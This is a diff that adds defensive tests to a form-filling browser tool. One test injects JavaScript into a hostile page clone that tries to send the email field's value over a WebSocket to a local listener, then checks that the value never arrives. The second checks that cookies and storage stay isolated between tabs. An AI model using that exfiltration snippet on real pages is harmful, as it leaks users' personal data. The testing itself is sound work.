@@ -6,6 +6,7 @@ from collections.abc import Iterator
 from contextlib import contextmanager
 
 import pytest
+from websockets.asyncio.server import ServerConnection, serve
 
 from companion.apply import Chrome
 from companion.store import Store
@@ -128,3 +129,40 @@ async def test_a_persons_values_do_not_leave_for_a_stranger(store: Store, chrome
         chrome.allowed.discard(origin)
         assert asked == []
         assert attempt.state == "submitted"
+
+
+async def test_a_persons_values_do_not_leave_through_a_socket(store: Store, chrome: Chrome) -> None:
+    heard: list[str | bytes] = []
+
+    async def listen(connection: ServerConnection) -> None:
+        heard.extend([words async for words in connection])
+
+    async with serve(listen, "127.0.0.1", 0) as server:
+        origin = f"ws://127.0.0.1:{next(iter(server.sockets)).getsockname()[1]}"
+        tell = (
+            "const s = new WebSocket('ORIGIN'); s.onopen = () => { s.send('hello');"
+            "s.send(JSON.stringify({e: document.querySelector('[name=email]').value})); s.send('bye') }"
+        )
+        with Hostile(tell.replace("ORIGIN", origin)) as clone:
+            chrome.allowed.add(origin)
+            attempt = await apply(clone, store, chrome)
+            chrome.allowed.discard(origin)
+    assert (attempt.state, set(heard)) == ("submitted", {"hello", "bye"})
+
+
+async def test_what_one_form_keeps_the_next_never_sees_and_nothing_stays_open(chrome: Chrome) -> None:
+    keep = "document.cookie = 'who=1'; localStorage.who = '1'; sessionStorage.who = '1'"
+    with Hostile("") as clone:
+        chrome.allowed.update(clone.allowed)
+        async with chrome.tab() as first, chrome.tab() as second:
+            for tab in (first, second):
+                await tab.page.goto(clone.url)
+            await first.page.evaluate(keep)
+            seen = await second.page.evaluate("[document.cookie, localStorage.who, sessionStorage.who].join()")
+            assert seen == ",,"
+            contexts = second.page.context.browser
+            assert contexts is not None
+        async with chrome.tab() as third:
+            await third.page.goto(clone.url)
+            assert await third.page.evaluate("[document.cookie, localStorage.who].join()") == ","
+            assert contexts.contexts == [third.page.context]
